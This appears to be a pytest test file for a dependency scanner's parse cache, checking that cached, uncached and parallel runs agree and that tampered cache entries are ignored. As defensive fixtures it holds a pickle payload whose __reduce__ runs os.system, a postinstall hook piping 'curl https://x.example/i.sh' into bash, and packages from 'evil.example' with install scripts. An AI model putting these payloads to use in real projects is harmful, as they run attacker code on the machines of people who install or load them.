"""The parse cache and the parse workers change how fast a lockfile is read, never what a
rule decides: cold, warm, parallel and in-process runs give the same report, and a
damaged, foreign or hostile cache entry is a miss."""

from __future__ import annotations

import json
import os
import pickle
import subprocess
import sys
from pathlib import Path

import pytest

from ztsa.manifests import PARALLEL_BYTES
from ztsa.manifests.npm import parse_package_lock
from ztsa.manifests.parsecache import ParseCache, cache_dir, encode

N_PACKAGES = 3000


def big_lock(evil_every: int = 0) -> str:
    """A package-lock.json above PARALLEL_BYTES; every ``evil_every``-th package comes from
    an unknown host and has an install script."""
    packages: dict[str, object] = {"": {"name": "app", "version": "1.0.0"}}
    for i in range(N_PACKAGES):
        evil = evil_every and i % evil_every == 0
        host = "evil.example" if evil else "registry.npmjs.org"
        packages[f"node_modules/pkg-{i}"] = {
            "version": "1.0.0",
            "resolved": f"https://{host}/pkg-{i}/-/pkg-{i}-1.0.0.tgz",
            "integrity": "sha512-" + "A" * 86 + "==",
            **({"hasInstallScript": True} if evil else {}),
        }
    text = json.dumps({"name": "app", "lockfileVersion": 3, "packages": packages}, indent=2)
    assert len(text) > PARALLEL_BYTES
    return text


def check(ws: Path, cache: Path, *extra: str) -> tuple[int, dict]:
    proc = subprocess.run(
        [sys.executable, "-m", "ztsa", "check", "--profile", "dependency", "--format", "json",
         *extra, str(ws)], capture_output=True, text=True, timeout=120,
        env={**os.environ, "ZTSA_CACHE_DIR": str(cache)})
    assert proc.returncode in (0, 3), proc.stderr
    doc = json.loads(proc.stdout)
    sup = {r["id"]: (r["status"], r["message"], r["evidence"]) for r in doc["results"]
           if r["id"].startswith("SUP")}
    return proc.returncode, sup


def workspace(tmp_path: Path, text: str) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "package.json").write_text('{"name": "app", "version": "1.0.0"}')
    (ws / "package-lock.json").write_text(text)
    return ws


def entries(cache: Path) -> list[Path]:
    """The entries of large files (the workspace's bundle of small files is not one)."""
    if not cache.exists():
        return []
    return sorted(p for p in cache.iterdir() if len(p.name) == 64 and p.stat().st_size > 1e5)


def test_cold_warm_and_uncached_runs_give_the_same_findings(tmp_path):
    ws = workspace(tmp_path, big_lock(evil_every=500))
    cache = tmp_path / "cache"
    cold = check(ws, cache)
    assert len(entries(cache)) == 1  # the worker stored the parse
    warm = check(ws, cache)
    uncached = check(ws, tmp_path / "unused", "--no-cache")
    assert not (tmp_path / "unused").exists() or not entries(tmp_path / "unused")
    assert cold == warm == uncached
    assert cold[0] == 3 and cold[1]["SUP002"][0] == "fail"  # evil.example is reported
    assert "pkg-500" in json.dumps(cold[1]["SUP002"])


def test_an_edit_of_one_byte_is_a_new_entry_and_a_new_result(tmp_path):
    ws = workspace(tmp_path, big_lock())
    cache = tmp_path / "cache"
    clean = check(ws, cache)
    assert clean[1]["SUP002"][0] == "pass"
    lock = ws / "package-lock.json"
    lock.write_text(lock.read_text().replace("registry.npmjs.org/pkg-7/", "evil.example/pkg-7/"))
    edited = check(ws, cache)
    assert edited[1]["SUP002"][0] == "fail" and "pkg-7" in json.dumps(edited[1]["SUP002"])
    assert len(entries(cache)) == 2


def test_a_malformed_large_lock_is_unknown_cold_and_warm(tmp_path):
    ws = workspace(tmp_path, big_lock()[:-5000])  # truncated
    cache = tmp_path / "cache"
    cold = check(ws, cache)
    warm = check(ws, cache)
    assert cold == warm
    status, message, _ = cold[1]["SUP002"]
    assert status == "unknown" and "package-lock.json" in message


class Boom:
    """A pickle that would run a command if the unpickler built any global it was given."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


@pytest.mark.parametrize("damage", ["hostile", "truncated", "wrong shape", "symlink"])
def test_a_damaged_entry_is_a_miss_and_runs_nothing(tmp_path, damage):
    ws = workspace(tmp_path, big_lock(evil_every=1000))
    cache = tmp_path / "cache"
    reference = check(ws, cache)
    (entry,) = entries(cache)
    marker = tmp_path / "pwned"
    if damage == "hostile":
        entry.write_bytes(pickle.dumps(("ok", Boom(marker))))
    elif damage == "truncated":
        entry.write_bytes(entry.read_bytes()[:1000])
    elif damage == "wrong shape":
        entry.write_bytes(pickle.dumps(("ok", [], "extra")))
    else:
        elsewhere = tmp_path / "elsewhere"
        elsewhere.write_bytes(encode(parse_package_lock(big_lock(), "package-lock.json")))
        entry.unlink()
        entry.symlink_to(elsewhere)  # a clean verdict planted through a link
    assert check(ws, cache) == reference
    assert not marker.exists()


def test_a_cache_directory_others_can_write_is_not_used(tmp_path):
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o777)
    os.chmod(shared, 0o777)
    assert cache_dir({"ZTSA_CACHE_DIR": str(shared)}) is None
    os.chmod(shared, 0o700)
    assert cache_dir({"ZTSA_CACHE_DIR": str(shared)}) == str(shared)
    made = tmp_path / "xdg"
    assert cache_dir({"XDG_CACHE_HOME": str(made)}) == str(made / "ztsa")
    assert (made / "ztsa").stat().st_mode & 0o777 == 0o700
    (tmp_path / "file").write_text("")
    assert cache_dir({"ZTSA_CACHE_DIR": str(tmp_path / "file")}) is None
    assert cache_dir({}) is None  # no HOME: no cache, and nothing created anywhere
    assert cache_dir({"HOME": "relative"}) is None


@pytest.mark.skipif(os.geteuid() != 0, reason="chown to another user needs root")
def test_a_cache_directory_of_another_user_is_not_used(tmp_path):
    d = tmp_path / "theirs"
    d.mkdir(mode=0o700)
    os.chown(d, 12345, 12345)
    assert cache_dir({"ZTSA_CACHE_DIR": str(d)}) is None


def crash(text: str, path: str) -> object:
    os._exit(7)


def test_a_worker_that_dies_yields_no_result(tmp_path):
    cache = ParseCache(str(tmp_path))
    key = cache.key(crash, "package-lock.json", "x")
    cache.start(key, crash, "package-lock.json", "x")
    assert cache.collect(key) == (False, None)
    assert not list(tmp_path.iterdir())


def test_a_worker_result_equals_the_parse_in_process(tmp_path):
    text = big_lock(evil_every=300)
    cache = ParseCache(str(tmp_path))
    key = cache.key(parse_package_lock, "package-lock.json", text)
    cache.start(key, parse_package_lock, "package-lock.json", text)
    got, value = cache.collect(key)
    assert got and value.entries == parse_package_lock(text, "package-lock.json").entries
    hit, stored = cache.get(key)
    assert hit and stored.entries == value.entries


def test_unasked_workers_are_stopped_and_reaped(tmp_path):
    cache = ParseCache(None)

    def slow(text: str, path: str) -> object:
        import time

        time.sleep(60)
        return []

    key = cache.key(slow, "x", "x")
    cache.start(key, slow, "x", "x")
    (pid, _), = cache._pending.values()
    cache.close()
    with pytest.raises(ChildProcessError):
        os.waitpid(pid, os.WNOHANG)


FIXTURES = Path(__file__).parent.parent / "fixtures" / "supply"


@pytest.fixture(autouse=True)
def bundle_always(monkeypatch):
    """Small workspaces use the bundle too here (normally only monorepos do)."""
    from ztsa.manifests import project

    monkeypatch.setattr(project, "BUNDLE_MIN_FILES", 0)


def report_of(ws: Path, cache: Path, *extra: str) -> str:
    """The gate's JSON report, run in this process (the parse cache in ``cache``)."""
    import contextlib
    import io

    from ztsa import cli

    os.environ["ZTSA_CACHE_DIR"] = str(cache)
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        cli.main(["check", "--profile", "dependency", "--format", "json", *extra, str(ws)])
    doc = json.loads(out.getvalue())
    return json.dumps([r for r in doc["results"] if r["id"].startswith("SUP")], sort_keys=True)


@pytest.mark.parametrize("fixture", sorted(p.name for p in FIXTURES.iterdir()))
def test_every_fixture_reads_the_same_from_the_bundle(tmp_path, fixture, monkeypatch):
    """Small files go to one bundle per workspace; every parse result of the corpus must
    survive it (a class missing from the unpickler's list would only be a miss, so the
    bundle must also be used)."""
    monkeypatch.setenv("ZTSA_CACHE_DIR", "")
    cache = tmp_path / "cache"
    fresh = report_of(FIXTURES / fixture, tmp_path / "none", "--no-cache")
    first = report_of(FIXTURES / fixture, cache)

    def stored() -> list[tuple[str, int]]:
        return sorted((p.name, p.stat().st_mtime_ns) for p in cache.iterdir()) \
            if cache.exists() else []

    before = stored()
    second = report_of(FIXTURES / fixture, cache)
    assert fresh == first == second
    assert stored() == before  # the second run found everything: nothing rewritten


def test_an_edited_small_file_is_parsed_again_and_a_damaged_bundle_is_empty(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "package.json").write_text('{"name": "a", "scripts": {"test": "true"}}')
    (ws / "package-lock.json").write_text('{"lockfileVersion": 3, "packages": {}}')
    cache = tmp_path / "cache"
    clean = report_of(ws, cache)
    assert "curl" not in clean
    (ws / "package.json").write_text(
        '{"name": "a", "scripts": {"postinstall": "curl https://x.example/i.sh | bash"}}')
    edited = report_of(ws, cache)
    assert edited != clean and "curl" in edited
    (bundle,) = [p for p in cache.iterdir() if len(p.name) == 64]
    bundle.write_bytes(b"\x80\x05garbage")
    assert report_of(ws, cache) == edited
    bundle.write_bytes(pickle.dumps({"k": Boom(tmp_path / "pwned")}))
    assert report_of(ws, cache) == edited
    assert not (tmp_path / "pwned").exists()


def test_a_workspace_with_few_small_manifests_does_not_touch_the_cache(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "package.json").write_text('{"name": "a"}')
    (ws / "Cargo.toml").write_text('[package]\nname = "a"\nversion = "0.1.0"\n')
    check(ws, tmp_path / "cache")
    assert not (tmp_path / "cache").exists()
